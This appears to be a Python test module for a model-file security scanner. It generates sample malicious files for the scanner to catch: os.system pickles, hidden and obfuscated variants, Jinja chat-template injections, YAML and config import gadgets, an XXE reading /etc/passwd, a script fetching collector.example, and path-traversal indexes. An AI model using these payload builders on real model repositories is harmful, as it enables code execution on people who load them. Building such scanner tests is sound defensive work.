"""Malicious files that lie beside weights as plain text, or are read by their words: scripts, pages, notebooks, settings."""

import base64
import json
import struct
from collections.abc import Callable, Iterator

from scanning.assembler import StackGlobal, call
from scanning.contained import zipped
from scanning.graphs import field
from scanning.recipe import Made, Recipe, Sentinel

NO_TOOL = "the tool that acts on it is not installed here"
NO_CODE = "runs nothing by itself: "


def text(words: str) -> bytes:
    return words.encode()


def target(it: Sentinel) -> dict[str, object]:
    return {"_target_": "os.system", "command": it.shell}


def notebook(it: Sentinel) -> dict[str, object]:
    cell = {"cell_type": "code", "source": [f"{it.code}\n"], "outputs": [], "metadata": {}, "execution_count": None}
    return {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


FIRING: dict[str, tuple[str, str, Callable[[Sentinel], Made]]] = {
    "shell without an interpreter": ("install", "shell", lambda it: text(f"set -e\n{it.shell}\n")),
    "shell that a comment precedes": ("install", "shell", lambda it: text(f"# Installs it.\nexport A=1\n{it.shell}\n")),
    "notebook": ("demo.ipynb", "notebook-way", lambda it: text(json.dumps(notebook(it)))),
    "target in toml": ("a.toml", "target-way", lambda it: text(f'_target_ = "os.system"\ncommand = "{it.shell}"\n')),
    "target in json lines": (
        "a.jsonl",
        "target-way",
        lambda it: text('{"a": 1}\n' + json.dumps(target(it)) + "\n"),
    ),
    "target that a key hides": (
        "a.json",
        "first-key-way",
        lambda it: text(json.dumps(target(it))[:-1] + ', "_target_": "torch.nn.Linear"}'),
    ),
    "yaml in utf-16": (
        "a.yaml",
        "yaml",
        lambda it: f"a: !!python/object/apply:os.system ['{it.shell}']\n".encode("utf-16"),
    ),
    "template with a name for a keyword": (
        "chat_template.jinja",
        "template-way",
        lambda it: text(
            "{% set i = dict(__init__=1)|list|first %}{% set g = dict(__globals__=1)|list|first %}"
            "{% for m in messages %}{{ cycler[i][g].os.system(" + repr(it.shell) + ") }}{% endfor %}"
        ),
    ),
    "template with a name cut out": (
        "chat_template.jinja",
        "template-way",
        lambda it: text(
            "{% set i = 'a__init__b'[1:-1] %}{% set g = 'a__globals__b'[1:-1] %}"
            "{% for m in messages %}{{ cycler[i][g].os.system(" + repr(it.shell) + ") }}{% endfor %}"
        ),
    ),
    "pickle in bytes of a pickle": ("model.pkl", "worker-way", lambda it: kept(evil(it))),
    "pickle whose frame lies": (
        "model.pkl",
        "pickle-bytes",
        lambda it: b"\x80\x04\x95" + struct.pack("<Q", 5) + evil(it)[2:],
    ),
    "pickle in base64": ("model.b64", "base64-way", lambda it: base64.b64encode(evil(it))),
}  # fmt: skip


def evil(it: Sentinel) -> bytes:
    """A stream without frames."""
    return b"\x80\x04" + StackGlobal().value(call("os:system", it.shell)) + b"."


def kept(stream: bytes) -> bytes:
    return b"\x80\x04}\x8c\x06workerB" + struct.pack("<I", len(stream)) + stream + b"s."


def compiled_context(path: str) -> bytes:
    """An ONNX model of one node whose graph somebody compiled into a file."""
    attribute = field(1, "ep_cache_context") + field(4, path) + field(20, 3)
    node = field(2, "y") + field(4, "EPContext") + field(7, "com.microsoft") + field(5, attribute)
    return field(1, 8) + field(7, field(1, node) + field(2, "g")) + field(8, field(2, 17))


def skops(**node: object) -> bytes:
    return zipped({"schema.json": json.dumps({"protocol": 2, "_skops_version": "0.11", **node}).encode()})


UNPROVEN: dict[str, tuple[str, str, Callable[[Sentinel], Made]]] = {
    "page with a script": (
        "card.html",
        "it takes a browser",
        lambda _: b"<html><script>fetch('https://collector.example')</script></html>",
    ),
    "drawing with a script": (
        "logo.svg",
        "it takes a browser",
        lambda _: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    "xml that reads a file": (
        "model.pmml",
        NO_CODE + "reads a file",
        lambda _: b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>',
    ),
    "skops function": (
        "model.skops",
        NO_TOOL,
        lambda _: skops(__class__="function", __module__="os", __loader__="FunctionNode", content="system"),
    ),
    "skops operator of another module": (
        "model.skops",
        NO_TOOL,
        lambda _: skops(__class__="call", __module__="subprocess", __loader__="OperatorFuncNode", attrs={}),
    ),
    "index of weights that leads out": (
        "model.safetensors.index.json",
        NO_CODE + "reads a file outside",
        lambda _: b'{"metadata": {}, "weight_map": {"a": "../../weights.bin"}}',
    ),
    "adapter of any library": (
        "adapter_config.json",
        NO_TOOL,
        lambda _: b'{"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}',
    ),
    "activation that is imported": (
        "config.json",
        NO_TOOL,
        lambda _: b'{"in_features": 2, "out_features": 2, "activation_function": "os.system"}',
    ),
    "chunks that are unpickled": (
        ".zarray",
        NO_TOOL,
        lambda _: b'{"zarr_format": 2, "dtype": "|O", "filters": [{"id": "pickle", "protocol": 5}]}',
    ),
    "tag of java": (
        "config.yaml",
        "it takes a parser in Java",
        lambda _: b"a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n",
    ),
    "compiled graph that leads out": (
        "model.onnx",
        NO_CODE + "has a plan compiled elsewhere loaded",
        lambda _: compiled_context("../../plan.bin"),
    ),
    "entries in a tensor": (
        "model.pkl",
        "it corrupts the memory of older releases of torch",
        lambda _: b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(K\0tR(K\0K\1u.",
    ),
    "requirements from elsewhere": (
        "requirements.txt",
        "it takes an installer",
        lambda _: b"--index-url https://packages.example/simple\nmodel-tools==1.0\n",
    ),
    "container that starts a program": (
        ".devcontainer.json",
        "it takes an editor",
        lambda _: b'{"image": "python", "postCreateCommand": "sh ./setup"}',
    ),
}  # fmt: skip


def recipes() -> Iterator[Recipe]:
    for name, (file, loader, make) in FIRING.items():
        yield Recipe(
            id=f"beside/{name.replace(' ', '-')}", family="beside the weights", file=file, loader=loader, make=make
        )
    for name, (file, why, make) in UNPROVEN.items():
        yield Recipe(
            id=f"beside/{name.replace(' ', '-')}",
            family="beside the weights",
            file=file,
            loader="pickle",
            make=make,
            unproven=why,
        )
